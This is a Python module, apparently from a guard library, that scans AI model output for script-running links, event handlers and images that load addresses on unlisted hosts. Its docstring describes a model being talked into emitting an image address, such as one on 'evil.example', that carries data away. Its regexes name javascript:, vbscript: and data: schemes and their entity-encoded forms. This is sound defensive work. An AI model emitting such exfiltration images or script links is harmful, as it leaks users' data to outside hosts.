"""Links that run scripts, images that carry data away, and addresses of hosts that are not listed.

A chat window loads the images of an answer by itself: an address that a model was talked into making up
(``![](https://evil.example/?q=...)``) tells its host whatever the model put there. So images of hosts that
are not listed are found where their address has room for data: a query, a fragment, a user, or a part or a
path too long for a name. Which of those mean harm cannot be seen: a badge in a README looks the same, list
its host. A few characters fit into a short name, too; ``any_image`` finds all images of hosts that are not
listed.

A script counts only where a link or an attribute holds it: "javascript: the good parts" is a sentence.
Hosts are compared as they look (in the view): one that is spelled with look-alikes counts as the listed one.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterable, Mapping

from validation.guards.scan import Pattern, PatternGuard, Scanner, trie, trie_pattern
from validation.guards.specs import WebCheck

SCRIPT, IMAGE, LINK = "SCRIPT_LINK", "IMAGE_LINK", "UNLISTED_LINK"
#: Characters of an address that are looked at, and of an image's description.
_ADDRESS, _ALT = 2_048, 2_048
#: A part of a path, or of a host's name, that is longer has room for data; so has what is longer in all.
_LONGEST_PART, _LONGEST_NAME = 48, 32
_LONGEST_PATH, _LONGEST_HOST = 160, 80

_CHAR = r"[^\s<>\"'`()\[\]{}|^]"
#: Browsers take one slash, or none behind a scheme, for two.
_WEB = r"(?:https?:[/\\]{0,8}|[/\\]{2,8})"
_FEW = r"\s{0,3}+"
_QUOTE = rf"{_FEW}[\"'`]?{_FEW}"
_ACTIVE = ("href", "src", "action", "formaction", "data", "poster")
_LOADED = ("src", "poster", "background")
#: Elements whose event handlers are looked for; most of them fire without a click.
_ELEMENTS = (
    *("a", "audio", "body", "button", "details", "div", "embed", "form", "html", "iframe", "img", "input"),
    *("link", "marquee", "object", "select", "span", "style", "svg", "textarea", "video"),
)
#: What stands in every program for React, and needs a click or a key.
_JSX = rf"(?:click|change|submit|input|keydown|keyup|blur|select){_FEW}={_FEW}\{{"
#: Characters of a tag before a handler, and of the handler.
_TAG, _HANDLER = 512, 1_024


_BREAK_ENTITY = r"&(?:tab|newline);|&\#(?:0{0,5}(?:9|10|13)(?![0-9])|x0{0,5}[9ad](?![0-9a-f]));?"


def _spread(word: str, breaks: str = rf"[\t\n\r]|{_BREAK_ENTITY}") -> str:
    """A scheme as browsers read it: tabs and line ends do not count, and any character may be an entity."""
    return rf"(?:{breaks})?".join(map(_entity_or, word))


def _entity_or(char: str) -> str:
    code, upper = ord(char), ord(char.upper())
    decimal, hexadecimal = f"(?:{code}|{upper})", f"(?:{code:x}|{upper:x})"
    return rf"(?:{char}|&\#0{{0,5}}{decimal}(?![0-9]);?|&\#x0{{0,5}}{hexadecimal}(?![0-9a-f]);?)"


#: The same as it may stand in a text: any of its characters may be an entity.
_COLON, _SLASH = (
    rf"(?:&colon;|{_entity_or(':')})",
    rf"(?:\\|&bsol;|&sol;|&\#0{{0,5}}92;?|&\#x0{{0,5}}5c;?|{_entity_or('/')})",
)
_WRITTEN = (
    rf"(?:(?:{_spread('https', _BREAK_ENTITY)}|{_spread('http', _BREAK_ENTITY)})(?:{_BREAK_ENTITY})?{_COLON}"
    rf"{_SLASH}{{0,8}}|{_SLASH}{{2,8}})"
)
#: Of its characters, and what breaks them.
_LONGEST_WRITTEN = 240


def _names(words: Iterable[str], then: str = "", unfinished: bool = False) -> str:
    return trie_pattern(trie([re.escape(char) for char in word] for word in words), then, unfinished)


_RUNS = (
    rf"((?:{_spread('javascript')}|{_spread('vbscript')})\s?{_COLON}"
    rf"[^ <>\"'`\]]{{1,{_ADDRESS}}}"
    rf"|data:(?:text/(?:html|xml|javascript)|application/|image/svg)[^\s<>\"'`)\]]{{0,{_ADDRESS}}})"
)
#: What may still become such an address, at the end of what has come.
_MAY_RUN = r"[jvd&][^ \"'<>`\]]*+\Z"
_ATTRIBUTE = r"(?<![\w-])(?!\Z)"
_OPEN_ACTIVE = _names(_ACTIVE, rf"{_FEW}(?:\Z|={_QUOTE}(?:\Z|{_MAY_RUN}))", unfinished=True)
_OPEN_TAG = _names(("script", *_ELEMENTS), r"(?![\w-])[^<>]*+\Z", unfinished=True)
_SCRIPTS = Scanner(
    tuple(
        Pattern(SCRIPT, 1.0, re.compile(regex), group=1)
        for regex in (
            rf"\][(:]{_FEW}<?{_FEW}{_RUNS}",
            rf"(?<![\w-]){_names(_ACTIVE)}{_FEW}={_QUOTE}{_RUNS}",
            rf"<{_RUNS}",
            rf"(<script(?![\w-])[^<>]{{0,{_TAG}}}>?)",
            rf"<{_names(_ELEMENTS)}(?=[\s/\"'])[^<>]{{0,{_TAG}}}?[\s/\"']"
            rf"(on(?!{_JSX})[a-z]{{3,20}}{_FEW}={_FEW}[^\s<>][^<>]{{0,{_HANDLER}}})",
        )
    ),
    re.compile(
        rf"\](?:\Z|[(:]{_FEW}<?{_FEW}(?:\Z|{_MAY_RUN}))"
        rf"|{_ATTRIBUTE}{_OPEN_ACTIVE}"
        rf"|<(?:\Z|{_MAY_RUN}|{_OPEN_TAG})"
    ),
    longest=32 + 320 + _ADDRESS + 2,  # Each of a scheme's characters, and what breaks it, may be an entity.
    gate=re.compile(r"[:;]|&#|<script|\bon[a-z]"),
    folded=True,
)
# Markdown's description may hold brackets in pairs, here two within one another.
_INNERMOST = r"[^\[\]\\]|\\[\s\S]"
_INNER = rf"{_INNERMOST}|\[(?>(?:{_INNERMOST}){{0,{_ALT}}})\]"
_DESCRIPTION = rf"(?>(?:{_INNERMOST}|\[(?>(?:{_INNER}){{0,{_ALT}}})\]){{0,{_ALT}}})"
#: What may stand around an address, as the first group; what is quoted may hold spaces, and all else.
_BARE, _BARE_STYLE = r"[^\s>]", r"[^\s)]"
_QUOTED = r"([\"'`])?"
_ANGLED = "(<)?"


def _address_of(within: str, alone: str, scheme: str = _WRITTEN) -> str:
    """An address as the second group: of characters of ``within`` if something opened it, else ``alone``."""
    return rf"{_FEW}({scheme}(?(1){within}{{1,{_ADDRESS}}}|{alone}{{1,{_ADDRESS}}}))"


def _begun(openers: Mapping[str, str], alone: str, begin: str = r"[h/\\&]") -> str:
    """What may still become an address, at the end of what has come."""
    forms = [rf"{begin}{alone}*+\Z"]
    forms += [rf"{sign}{_FEW}(?:\Z|{begin}{char}*+\Z)" for sign, char in openers.items()]
    return rf"(?:\Z|{'|'.join(forms)})"


_MARKDOWN = _ANGLED + _address_of(r"[^>\n]", r"\S")
_IN_QUOTES = r"(?:(?!\1)[\s\S])"
_SET = _address_of(_IN_QUOTES, _BARE, scheme="")
_IMAGES: tuple[str, ...] = (
    rf"!\[{_DESCRIPTION}\]\({_FEW}{_MARKDOWN}",
    # Where ![...][1] leads; an ordinary link may lead there as well.
    rf"\]:{_FEW}{_MARKDOWN}",
    rf"(?<![\w-]){_names(_LOADED)}{_FEW}={_FEW}{_QUOTED}{_address_of(_IN_QUOTES, _BARE)}",
    rf"(?<![\w-])url\({_FEW}{_QUOTED}{_address_of(_IN_QUOTES, _BARE_STYLE)}",
    # Several addresses, each with its size.
    rf"(?<![\w-])srcset{_FEW}={_FEW}{_QUOTED}{_SET}",
)
_QUOTES = {sign: f"[^{sign}]" for sign in "\"'`"}
#: Elements that load or go where this attribute leads, and what stands in that address if it has no quotes of
#: its own: of a refresh it stands within those of another attribute.
_LEADING = {"link": ("href", _BARE), "meta": ("url", r"[^\s>\"'`]")}
_IMAGES += tuple(
    rf"<{element}(?![\w-])[^<>]{{0,{_TAG}}}?(?<![\w-]){name}{_FEW}={_FEW}{_QUOTED}"
    rf"{_address_of(_IN_QUOTES, bare)}"
    for element, (name, bare) in _LEADING.items()
)
_SET_BEGUN = _begun(_QUOTES, _BARE, begin="")
_MARKDOWN_BEGUN = _begun({"<": r"[^>\n]"}, r"\S")
_OPEN_LOADED = _names(_LOADED, rf"{_FEW}(?:\Z|={_FEW}{_begun(_QUOTES, _BARE)})", unfinished=True)
_OPEN_SET = _names(["srcset"], rf"{_FEW}(?:\Z|={_FEW}{_SET_BEGUN})", unfinished=True)
_OPEN_URL = _names(["url("], rf"{_FEW}{_begun(_QUOTES, _BARE_STYLE)}", unfinished=True)
_OPEN_LEADING = "|".join(
    rf"<{_open}"
    for _open in (
        _names(
            [element],
            rf"(?![\w-])(?:[^<>]*+\Z"
            rf"|[^<>]{{0,{_TAG}}}?(?<![\w-]){name}{_FEW}={_FEW}{_begun(_QUOTES, bare)})",
            unfinished=True,
        )
        for element, (name, bare) in _LEADING.items()
    )
)
_OPEN_DESCRIPTION = (
    rf"(?:\\?\Z|\[(?>(?:{_INNER}){{0,{_ALT}}})"
    rf"(?:\\?\Z|\[(?>(?:{_INNERMOST}){{0,{_ALT}}})\\?\Z))"
)
_MAY_BE_IMAGE = re.compile(
    rf"!(?:\Z|\[{_DESCRIPTION}(?:{_OPEN_DESCRIPTION}|\](?:\Z|\({_FEW}{_MARKDOWN_BEGUN})))"
    rf"|\](?:\Z|:{_FEW}{_MARKDOWN_BEGUN})"
    rf"|{_ATTRIBUTE}(?:{_OPEN_LOADED}|{_OPEN_SET}|{_OPEN_URL})"
    rf"|{_OPEN_LEADING}"
)
_LINKS = rf"(?<!\w)(https?:[/\\]{{2}}{_CHAR}{{1,{_ADDRESS}}})"
_OPEN_LINK = _names(["http"], rf"(?:\Z|[s:]{_CHAR}*+\Z)", unfinished=True)
_MAY_BE_LINK = re.compile(rf"(?<!\w)(?!\Z){_OPEN_LINK}")
_PARTS = re.compile(rf"{_WEB}([^/\\?#]*)([^?#]*)(.*)", re.DOTALL)


#: A host that stands alone: no user before it, and nothing that may end the address within it.
_PLAIN_HOST = re.compile(rf"{_WEB}([\w.\-]+)(?=[/\\?#]|\Z)")


class Hosts:
    """A list of hosts, those below ``*.`` included."""

    def __init__(self, allowed: Iterable[str]) -> None:
        allowed = set(allowed)
        self._exact = {host for host in allowed if not host.startswith("*.")}
        self._below = tuple(host[1:] for host in allowed - self._exact)

    def lists(self, address: str) -> bool:
        """Whether an address leads to a host of the list."""
        plain = _PLAIN_HOST.match(address)
        host = plain[1].rstrip(".") if plain else _parts(address)[1]
        return host in self._exact or (bool(self._below) and host.endswith(self._below))


def _parts(address: str) -> tuple[str, str, str, str]:
    """User, host, path, and query with fragment of a folded address."""
    match = _PARTS.match(address)
    place, path, rest = match.groups() if match else ("", "", "")
    user, _, host = place.rpartition("@")
    return user, re.sub(r":[0-9]*\Z", "", host).rstrip("."), path, rest


def carries(address: str) -> bool:
    """Whether an address has room for data."""
    user, host, path, rest = _parts(address)
    return (
        bool(user or rest.strip("?#"))
        # A placeholder of a reversible redaction, whose original is put in after guards have judged.
        or "<" in address
        or len(path) > _LONGEST_PATH
        or len(host) > _LONGEST_HOST
        or max(map(len, re.split(r"[/\\]", path))) > _LONGEST_PART
        or max(map(len, host.split("."))) > _LONGEST_NAME
    )


_ADDRESS_BEGUN = re.compile(_WEB)
_PARENTHESES = re.compile(r"\\[\s\S]|[()]")
#: The folded view has no upper case, and entities of these names have.
_BREAKS = re.compile("&(?:tab|newline);")
_ODD = re.compile(r"[\s<>\"'`]")


def _image_end(match: re.Match[str], hosts: Hosts, wanted: Callable[[str], bool]) -> int | None:
    """Where what loads a wanted address of no listed host ends; None if it loads none."""
    start, end = match.span(2)
    if start - match.start() > _ALT + 16:
        return None  # As far as a stream is held.
    several = match[0].startswith("srcset")
    if not several and _PLAIN_HOST.match(match[2]) and hosts.lists(match[2]):
        return None  # Wherever the address ends.
    opener = match[1]
    if opener and opener in _QUOTES:
        if match.string[end : end + 1] != opener and (odd := _ODD.search(match.string, start, end)):
            end = odd.start()  # The quote is never closed.
    elif not opener and match.string.find(")", start, end) >= 0:
        end = _balanced(match.string, start, end)
    address = _read(match.string[start:end])
    for one in re.split(r"[\s,]+", address) if several else [re.sub(r"[\t\n\r]", "", address)]:
        if _ADDRESS_BEGUN.match(one) and not hosts.lists(one) and wanted(one):
            return end
    return None


def _read(address: str) -> str:
    """What a browser makes of an address as it is written."""
    if "&" in address:
        address = html.unescape(_BREAKS.sub("", address))
    return address


def _balanced(text: str, start: int, end: int) -> int:
    """Where in ``text`` a parenthesis closes that opened before ``start``; ``end`` if none does."""
    depth = 0
    for sign in _PARENTHESES.finditer(text, start, end):
        depth += (sign[0] == "(") - (sign[0] == ")")
        if depth < 0:
            return sign.start()
    return end


def web_guard(checks: Iterable[WebCheck], allowed_hosts: Iterable[str]) -> PatternGuard:
    """The guard of policy kind ``web``."""
    hosts = Hosts(allowed_hosts)
    wanted = set(checks)

    def unlisted(match: re.Match[str]) -> int | None:
        return None if hosts.lists(match[1]) else match.end(1)

    scanners = []
    if "script" in wanted:
        scanners.append(_SCRIPTS)
    if wanted & {"image", "any_image"}:
        which = (lambda _: True) if "any_image" in wanted else carries

        scanners.append(
            Scanner(
                tuple(
                    Pattern(
                        IMAGE, 1.0, re.compile(regex), lambda match: _image_end(match, hosts, which), group=2
                    )
                    for regex in _IMAGES
                ),
                _MAY_BE_IMAGE,
                longest=_ALT + 16 + _LONGEST_WRITTEN + _ADDRESS + 1,
                gate=re.compile(r"https?:|[/\\]{2}|&#|&(?:colon|sol|bsol);"),
                folded=True,
            )
        )
    if "link" in wanted:
        scanners.append(
            Scanner(
                (Pattern(LINK, 1.0, re.compile(_LINKS), unlisted, group=1),),
                _MAY_BE_LINK,
                longest=8 + _ADDRESS + 1,
                gate=re.compile("http"),
                folded=True,
            )
        )
    return PatternGuard(scanners, "exact")
